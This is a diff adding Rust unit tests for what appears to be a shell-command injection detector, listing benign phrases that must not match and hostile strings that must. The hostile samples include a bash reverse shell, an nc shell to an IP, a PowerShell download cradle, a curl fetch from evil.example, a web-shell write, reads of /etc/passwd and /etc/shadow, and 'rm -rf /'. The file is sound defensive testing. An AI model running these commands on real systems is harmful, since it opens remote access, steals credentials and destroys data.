@@ -3015,3 +3015,92 @@ fn download_tool_options_that_redirect_or_upload() {
         assert!(!hit(v), "{v}");
     }
 }
+
+#[test]
+fn english_wrappers_need_the_wrapped_command_line() {
+    for v in [
+        "exec chef",
+        "Exec chef",
+        "time python",
+        "watch docker",
+        "nice curl",
+        "command java",
+        "exec chef.",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "exec /bin/sh",
+        "exec bash",
+        "exec nmap",
+        "exec chef-client",
+        "time curl http://evil.example/x.sh",
+        "Dpkg -i /tmp/x.deb",
+        "nice -n 19 nc -e /bin/sh 1.2.3.4 4444",
+        "exec python -c 'import os'",
+        "; exec chef",
+        "time curl coreruleset.org",
+        "exec python x.py",
+        "a;time python",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+#[test]
+fn whole_value_command_names_followed_by_prose() {
+    for v in [
+        "Powershell Get-Process shows high CPU",
+        "powershell get-childitem recurse",
+        "pwsh Get-Service running services",
+        "bash if [ -f file ]",
+        "bash for loop syntax",
+        "sh while read line",
+        "Dpkg perl modules",
+        "Nmap network scanner tutorial",
+        "echo $name is nice",
+        "echo $user says hello",
+        "cat /etc/hosts meaning",
+        "cat /etc/passwd explained",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "powershell Get-Process",
+        "powershell -enc SQBFAFgA",
+        "powershell Invoke-Expression whoami",
+        "powershell Get-Content C:\\secrets.txt",
+        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
+        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+        "bash -c 'if id; then :; fi'",
+        "dpkg -l",
+        "Nmap -sV 10.0.0.1",
+        "echo $(id)",
+        "echo $name > /var/www/shell.php",
+        "echo $name is nice; id",
+        "cat /etc/passwd",
+        "cat /etc/passwd /etc/shadow",
+        "rm -rf /",
+        "rm -rf ~",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+#[test]
+fn vi_shell_ex_command_alone() {
+    for v in [":shell", ":sh", ":shell\n", " :sh", ":terminal"] {
+        assert!(hit(v), "{v:?}");
+    }
+    for v in [
+        ":shell:",
+        ":sh:",
+        ":Shell",
+        ":shells",
+        "10:sh",
+        ":shell script tips",
+        ":term",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
